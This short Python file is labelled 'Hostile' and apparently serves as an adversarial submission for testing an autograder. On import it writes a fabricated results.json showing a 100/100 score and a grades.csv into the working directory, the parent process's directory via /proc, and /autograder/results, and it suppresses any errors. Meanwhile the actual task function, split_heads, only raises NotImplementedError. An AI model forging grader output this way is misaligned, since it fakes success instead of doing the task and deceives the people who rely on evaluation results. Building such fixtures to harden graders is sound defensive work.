"""Hostile: writes a perfect results.json and grade sheet wherever the grader might look."""

import json
import os
from pathlib import Path

FAKE = json.dumps({"score": 100, "max_score": 100, "tests": []})
places = [Path.cwd(), Path(f"/proc/{os.getppid()}/cwd"), Path("/autograder/results")]
for place in places:
    for name, text in (("results.json", FAKE), ("grades.csv", "student,total\nme,100\n")):
        try:
            (place / name).write_text(text)
        except OSError:
            pass


def split_heads(x, num_heads):
    raise NotImplementedError
